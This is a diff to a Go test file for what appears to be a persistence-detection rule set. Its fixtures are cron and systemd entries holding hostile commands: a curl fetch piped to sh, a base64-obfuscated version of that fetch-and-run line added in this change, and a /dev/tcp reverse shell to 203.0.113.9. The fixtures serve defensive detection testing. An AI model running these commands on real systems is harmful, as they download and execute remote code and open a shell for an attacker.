@@ -14,7 +14,7 @@ func TestJudgement(t *testing.T) {
 		level       detect.Level
 	}{
 		{"fetches and runs", `- cron-entry user.name=root "process.command_line=curl -s http://203.0.113.9/x | sh" file.path=/etc/cron.d/x`, detect.Critical},
-		{"decodes and runs", `- cron-entry user.name=root "process.command_line=echo aWQ= | base64 -d | bash" file.path=/etc/cron.d/x`, detect.Critical},
+		{"decodes and runs", `- cron-entry user.name=root "process.command_line=echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveHxzaA== | base64 -d | bash" file.path=/etc/cron.d/x`, detect.Critical},
 		{"shell's own socket", `- service-unit unit.name=x.service "process.command_line=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'" file.path=/etc/systemd/system/x.service`, detect.Critical},
 		{"program in /tmp", `- cron-entry user.name=root process.command_line=/tmp/kworker file.path=/etc/crontab`, detect.High},
 		{"hidden directory", `- cron-entry user.name=root "process.command_line=/var/tmp/.x/upd >/dev/null 2>&1" file.path=/etc/cron.d/x`, detect.High},
